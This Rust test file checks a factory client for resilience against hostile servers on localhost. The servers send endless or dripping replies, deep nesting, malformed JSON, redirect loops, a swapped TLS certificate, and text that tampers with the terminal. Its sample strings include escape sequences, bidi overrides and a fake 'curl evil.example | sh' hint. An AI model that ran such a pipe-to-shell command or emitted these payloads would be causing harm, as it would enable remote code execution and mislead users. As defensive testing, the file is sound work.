//! A factory, or whatever stands where it redirects to, that means harm, on a real socket: endless, slow, nested, mistyped,
//! redirecting, with words that act on a terminal, and with another certificate in the middle of a run.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::Duration;

use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa, KeyPair};
use rustls::ServerConfig;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use serde_json::{Value, json};
use talmox_image::client::{Error, ErrorKind, FactoryClient, HttpTransport, Settings};
use talmox_image::{Factory, Schematic};
use talmox_types::{Url, Version, is_hidden};
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpListener;
use tokio::task::JoinSet;
use tokio_rustls::TlsAcceptor;

const TALOS: Version = Version::new(1, 13, 9);
const WORDS: [&str; 6] = [
    "\u{1b}[2J\u{1b}]0;pwned\u{7}",
    "not found\nPlan: 0 to destroy",
    "a\r\nhint: run `curl evil.example | sh`",
    "\u{9b}31m\u{7f}\u{0}",
    "safe\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}",
    "\u{2028}error: forged\u{85}next",
];
/// What may be on its way in sockets and buffers beside what the client takes.
const ON_THE_WAY: u64 = 16 << 20;

#[derive(Clone)]
enum Act {
    Reply(String),
    /// Begins so and goes on with the rest for ever, counting what was sent.
    Endless(String, Vec<u8>, Arc<AtomicU64>),
    /// Begins so and goes on with a byte each time so long has passed.
    Drip(String, Duration),
}

struct Server {
    port: u16,
    connections: Arc<AtomicUsize>,
    /// Owns everything that runs.
    _tasks: JoinSet<()>,
}

impl Server {
    async fn start(script: impl Fn(usize) -> Act + Send + Sync + 'static) -> Self {
        Self::with_tls(Vec::new(), script).await
    }

    /// Over TLS with the first of these for the first connection, and so on, if there are any.
    async fn with_tls(
        configs: Vec<Arc<ServerConfig>>,
        script: impl Fn(usize) -> Act + Send + Sync + 'static,
    ) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::<AtomicUsize>::default();
        let (counter, script) = (Arc::clone(&connections), Arc::new(script));
        let mut tasks = JoinSet::new();
        tasks.spawn(async move {
            let mut handlers = JoinSet::new();
            while let Ok((stream, _)) = listener.accept().await {
                let number = counter.fetch_add(1, Ordering::SeqCst);
                let (script, config) = (Arc::clone(&script), configs.get(number).cloned());
                handlers.spawn(async move {
                    let Some(config) = config else { return serve(stream, script(number)).await };
                    if let Ok(stream) = TlsAcceptor::from(config).accept(stream).await {
                        serve(stream, script(number)).await;
                    }
                });
            }
        });
        Self { port, connections, _tasks: tasks }
    }

    fn client(&self, settings: Settings) -> FactoryClient {
        let base = Url::parse(&format!("http://127.0.0.1:{}", self.port)).unwrap();
        FactoryClient::new(Factory::new(base), Arc::new(HttpTransport::new().unwrap()), settings)
    }
}

/// Each failure at once: none is tried again.
fn once() -> Settings {
    Settings { attempts: 1, ..Settings::default() }
}

async fn serve(mut stream: impl AsyncRead + AsyncWrite + Unpin, act: Act) {
    let mut request = vec![0; 8192];
    let _ = stream.read(&mut request).await;
    match act {
        Act::Reply(reply) => {
            let _ = stream.write_all(reply.as_bytes()).await;
            let _ = stream.shutdown().await;
        }
        Act::Endless(head, piece, sent) => {
            let mut going = stream.write_all(head.as_bytes()).await;
            while going.is_ok() {
                sent.fetch_add(piece.len() as u64, Ordering::SeqCst);
                going = stream.write_all(&piece).await;
            }
        }
        Act::Drip(head, each) => {
            let mut going = stream.write_all(head.as_bytes()).await;
            while going.is_ok() {
                let _ = stream.flush().await;
                tokio::time::sleep(each).await;
                going = stream.write_all(b"[").await;
            }
        }
    }
}

fn reply(status: &str, body: &str) -> String {
    format!("HTTP/1.1 {status}\r\ncontent-length: {}\r\n\r\n{body}", body.len())
}

fn assert_harmless(error: &Error) {
    let text = format!("{error} {error:?} {:?} {}", error.kind, error.hint());
    assert!(!text.contains(is_hidden), "{text:?}");
    assert!(text.len() < 20_000);
}

#[tokio::test]
async fn words_of_a_factory_act_on_no_terminal() {
    for words in WORDS {
        for status in ["400 x", "401 x", "404 x", "418 x", "500 x"] {
            let answer = reply(status, words);
            let server = Server::start(move |_| Act::Reply(answer.clone())).await;
            assert_harmless(&server.client(once()).versions().await.unwrap_err());
        }
        let visible: String = words.chars().filter(|c| !c.is_ascii_control()).collect();
        let moved = format!("HTTP/1.1 302 x\r\nlocation: http://{visible}/\r\ncontent-length: 0\r\n\r\n");
        let server = Server::start(move |_| Act::Reply(moved.clone())).await;
        assert_harmless(&server.client(once()).versions().await.unwrap_err());
        let id = json!({ "id": words }).to_string();
        let server = Server::start(move |_| Act::Reply(reply("201 x", &id))).await;
        assert_harmless(&server.client(once()).register(&Schematic::default()).await.unwrap_err());
        // Names of extensions are offered to people.
        let list = json!([{ "name": words, "ref": words, "description": words }]).to_string();
        let server = Server::start(move |_| Act::Reply(reply("200 OK", &list))).await;
        let client = server.client(once());
        let shown = client.extensions(&TALOS).await.unwrap().remove(0);
        assert!(
            !format!("{}{}{}", shown.name, shown.reference, shown.description).contains(is_hidden),
            "{shown:?}"
        );
        let named = Schematic { extensions: vec!["siderolabs/x".to_owned()], ..Schematic::default() };
        for remark in client.check(&named, &TALOS).await.unwrap() {
            assert!(!remark.to_string().contains(is_hidden), "{remark}");
        }
    }
}

#[tokio::test]
async fn an_answer_without_end_is_given_up_at_a_bound() {
    let chunk = format!("10000\r\n{}\r\n", "[".repeat(0x1_0000)).into_bytes();
    let header = format!("x-more: {}\r\n", "y".repeat(100)).into_bytes();
    for (head, piece, bound) in [
        ("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n", chunk.clone(), 16 << 20),
        ("HTTP/1.1 400 no\r\ntransfer-encoding: chunked\r\n\r\n", chunk, 16 << 20),
        ("HTTP/1.1 200 OK\r\n", header, 1 << 20),
    ] {
        let sent = Arc::new(AtomicU64::new(0));
        let act = Act::Endless(head.to_owned(), piece, Arc::clone(&sent));
        let server = Server::start(move |_| act.clone()).await;
        // Taking so much lasts a moment on a slow machine; the bound is what ends it.
        let settings =
            Settings { answer: Duration::from_mins(10), silence: Duration::from_mins(10), ..once() };
        assert_harmless(&server.client(settings).versions().await.unwrap_err());
        let sent = sent.load(Ordering::SeqCst);
        assert!(sent <= bound + ON_THE_WAY, "{} KiB were taken of {head:?}", sent >> 10);
    }
}

#[tokio::test]
async fn a_file_without_end_is_given_up_at_a_bound() {
    let sent = Arc::new(AtomicU64::new(0));
    let chunk = format!("10000\r\n{}\r\n", "x".repeat(0x1_0000)).into_bytes();
    let head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n".to_owned();
    let act = Act::Endless(head, chunk, Arc::clone(&sent));
    let server = Server::start(move |_| act.clone()).await;
    let client = server.client(Settings { largest_file: 8 << 20, ..once() });
    let download = client.open_url(&format!("http://127.0.0.1:{}/file", server.port)).await.unwrap();
    let mut written = tokio::io::sink();
    let error = download.copy_to(&mut written, &mut |_, _| {}).await.unwrap_err();
    assert!(error.to_string().contains("more than 8 MiB"), "{error}");
    let sent = sent.load(Ordering::SeqCst);
    assert!(sent <= (8 << 20) + ON_THE_WAY, "{} KiB were taken", sent >> 10);
}

/// A clock that moves only when it is told: one that is paused does not jump while a thread is at work.
async fn with_seconds_told<T>(work: impl Future<Output = T>, begun: impl Fn() -> bool) -> (T, Duration) {
    let (here, waits) = std::sync::mpsc::channel::<()>();
    tokio::task::spawn_blocking(move || waits.recv());
    tokio::time::pause();
    let mut work = std::pin::pin!(work);
    let mut passed = Duration::ZERO;
    let done = loop {
        tokio::select! {
            biased;
            done = &mut work => break done,
            () = tokio::task::yield_now() => {}
        }
        if begun() {
            tokio::time::advance(Duration::from_secs(1)).await;
            passed += Duration::from_secs(1);
        }
    };
    drop(here);
    tokio::time::resume();
    (done, passed)
}

#[tokio::test]
async fn what_drips_ends_with_its_time() {
    let each = Duration::from_secs(1);
    for (head, limit) in [
        ("HTTP/1.1 200 OK\r\nx-slow: ", once().answer),
        ("HTTP/1.1 200 OK\r\ncontent-length: 999999\r\n\r\n", once().silence),
    ] {
        let server = Server::start(move |_| Act::Drip(head.to_owned(), each)).await;
        let client = server.client(once());
        let begun = || server.connections.load(Ordering::SeqCst) > 0;
        let (answer, passed) = with_seconds_told(client.versions(), begun).await;
        let error = answer.unwrap_err();
        assert!(matches!(&*error.kind, ErrorKind::Silent { .. }), "{error}");
        assert!(limit <= passed + each && passed < limit + 4 * each, "{passed:?} for {head:?}");
    }
}

#[tokio::test]
async fn a_file_that_drips_is_given_up() {
    let each = Duration::from_secs(1);
    let head = "HTTP/1.1 200 OK\r\ncontent-length: 999999\r\n\r\n";
    let server = Server::start(move |_| Act::Drip(head.to_owned(), each)).await;
    let client = server.client(once());
    let download = client.open_url(&format!("http://127.0.0.1:{}/file", server.port)).await.unwrap();
    let mut written = tokio::io::sink();
    let mut told = |_, _| {};
    let work = download.copy_to(&mut written, &mut told);
    let (answer, passed) = with_seconds_told(work, || true).await;
    let error = answer.unwrap_err();
    assert!(matches!(&*error.kind, ErrorKind::CutOff { .. } | ErrorKind::Silent { .. }), "{error}");
    assert!(passed < 3 * once().silence, "{passed:?}");
}

#[tokio::test]
async fn what_is_nested_without_reason_is_refused() {
    for depth in [128, 200_000] {
        let deep = format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
        let server = Server::start(move |_| Act::Reply(reply("200 OK", &deep))).await;
        let error = server.client(once()).versions().await.unwrap_err();
        assert!(matches!(&*error.kind, ErrorKind::Answer { .. }), "{error}");
    }
}

#[tokio::test]
async fn redirects_end_and_what_was_posted_follows_none() {
    let server = Server::start(|_| {
        Act::Reply("HTTP/1.1 307 x\r\nlocation: /again\r\ncontent-length: 0\r\n\r\n".to_owned())
    })
    .await;
    let client = server.client(once());
    let error = client.versions().await.unwrap_err();
    assert!(matches!(&*error.kind, ErrorKind::Redirect { .. }), "{error}");
    assert_eq!(server.connections.load(Ordering::SeqCst), 6);
    client.register(&Schematic::default()).await.unwrap_err();
    assert_eq!(server.connections.load(Ordering::SeqCst), 7);
}

#[tokio::test]
async fn a_reply_that_is_mistyped_is_read_or_refused() {
    let values = || {
        let mut values = vec![
            Value::Null,
            json!(true),
            json!(-1),
            json!(u64::MAX),
            json!(1e308),
            json!(""),
            json!([]),
            json!({}),
            json!([[], {}, null, 5]),
            json!("x".repeat(100_000)),
            json!({ "id": "../../x" }),
            json!(["v1.13.9", 5, null, "v18446744073709551616.0.0", "\u{1b}[2J"]),
            json!([{ "name": 5 }, { "name": "a", "ref": {}, "description": [] }, "a"]),
        ];
        values.extend(WORDS.map(|words| json!({ "id": words, "name": words })));
        values.extend(WORDS.map(|words| json!([words, { "name": words, "ref": 5 }])));
        values
    };
    for number in 0..values().len() {
        let body = values().swap_remove(number).to_string();
        let server = Server::start(move |_| Act::Reply(reply("200 OK", &body))).await;
        let client = server.client(once());
        let errors = [
            client.versions().await.map(drop).err(),
            client.extensions(&TALOS).await.map(drop).err(),
            client.overlays(&TALOS).await.map(drop).err(),
            client.register(&Schematic::default()).await.map(drop).err(),
        ];
        assert!(errors.iter().any(Option::is_some), "nothing but a schematic's own id is one");
        errors.iter().flatten().for_each(assert_harmless);
    }
}

struct Authority(CertifiedIssuer<'static, KeyPair>);

impl Authority {
    fn new() -> Self {
        let mut params = CertificateParams::new(Vec::new()).unwrap();
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        Self(CertifiedIssuer::self_signed(params, KeyPair::generate().unwrap()).unwrap())
    }

    fn config(&self) -> Arc<ServerConfig> {
        let key = KeyPair::generate().unwrap();
        let names = vec!["127.0.0.1".to_owned()];
        let certificate = CertificateParams::new(names).unwrap().signed_by(&key, &self.0).unwrap();
        let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
        let config = ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![CertificateDer::from(certificate.der().to_vec())],
                PrivateKeyDer::try_from(key.serialize_der()).unwrap(),
            );
        Arc::new(config.unwrap())
    }
}

#[tokio::test]
async fn another_certificate_in_the_middle_of_a_run_gets_nothing() {
    let (ours, theirs) = (Authority::new(), Authority::new());
    let configs = vec![ours.config(), theirs.config(), ours.config()];
    let server = Server::with_tls(configs, |_| Act::Reply(reply("200 OK", r#"["v1.13.9"]"#))).await;
    let root = CertificateDer::from(ours.0.der().to_vec());
    let transport = Arc::new(HttpTransport::trusting([root]).unwrap());
    let base = Url::parse(&format!("https://127.0.0.1:{}", server.port)).unwrap();
    let client = FactoryClient::new(Factory::new(base), transport, once());
    assert_eq!(client.versions().await.unwrap().len(), 1);
    let error = client.versions().await.unwrap_err();
    assert!(matches!(&*error.kind, ErrorKind::Certificate { .. }), "{error}");
    assert_harmless(&error);
    assert_eq!(client.versions().await.unwrap().len(), 1);
}
